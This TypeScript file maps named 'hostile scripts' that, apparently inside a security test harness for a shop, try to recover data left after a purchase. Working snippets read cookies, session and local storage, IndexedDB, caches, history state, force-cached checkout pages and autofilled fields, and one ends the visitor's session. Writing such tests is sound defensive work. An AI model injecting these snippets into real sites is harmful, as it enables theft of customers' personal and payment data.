import type { HostileScript } from "./hostile-kit.ts";

/** Look for what a purchase left behind. */
export const LATER_SCRIPTS: Readonly<Record<string, HostileScript>> = {
  "reads storage of the tab": ({ steal }) => steal(Object.entries(sessionStorage)),
  "reads storage of the site": ({ steal }) => steal(Object.entries(localStorage)),
  "reads databases": async ({ steal }) => {
    for (const { name = "" } of await indexedDB.databases()) {
      steal(name);
      const asked = indexedDB.open(name);
      await new Promise((resolve) => (asked.onsuccess = asked.onerror = resolve));
      for (const table of asked.result.objectStoreNames) {
        const rows = asked.result.transaction(table).objectStore(table).getAll();
        await new Promise((resolve) => (rows.onsuccess = rows.onerror = resolve));
        steal(rows.result);
      }
    }
  },
  "reads caches": async ({ steal }) => {
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const key of await cache.keys()) steal([key.url, await (await cache.match(key))?.text()]);
    }
  },
  "reads files of the origin": async ({ steal }) => {
    const folder = await navigator.storage.getDirectory();
    for await (const name of (folder as unknown as { keys: () => AsyncIterable<string> }).keys()) steal(name);
  },
  "reads cookies": ({ steal }) => steal(document.cookie),
  "reads the tab's history": ({ steal }) => {
    const { navigation } = window as unknown as {
      navigation: { entries: () => { url: string | null; key: string; getState: () => unknown }[] };
    };
    steal(navigation.entries().map((entry) => [entry.url, entry.key, entry.getState()]));
    steal([history.state, window.name, document.referrer]);
  },
  "reads the state of entries it goes back to": ({ steal, isFirst }) => {
    if (!isFirst) return;
    addEventListener("popstate", ({ state }) => steal(state));
    addEventListener("pageshow", () => steal([history.state, document.documentElement.outerHTML]));
  },
  "reads what was loaded": ({ steal }) => {
    steal(performance.getEntries().map(({ name }) => name));
    steal(performance.getEntriesByType("navigation"));
  },
  "asks the browser's cache": async ({ steal }) => {
    for (const cache of ["only-if-cached", "force-cache"] as const) {
      steal(await (await fetch("/checkout", { cache, mode: "same-origin" })).text());
      steal(await (await fetch("/api/commerce/checkout", { cache, mode: "same-origin" })).text());
    }
  },
  "lets the browser fill hidden fields of its own again": ({ steal }) => {
    const form = document.querySelector("form.taken") ?? document.body.appendChild(document.createElement("form"));
    form.className = "taken";
    form.innerHTML = '<input name="email" autocomplete="off"><textarea name="note"></textarea>';
    steal([...new FormData(form as HTMLFormElement)]);
  },
  "signs the visitor out and in as its own": async ({ steal, call }) => {
    steal(await call("DELETE /api/site-users/account/session"));
    steal(await call("GET /api/site-users/account/session"));
  },
};
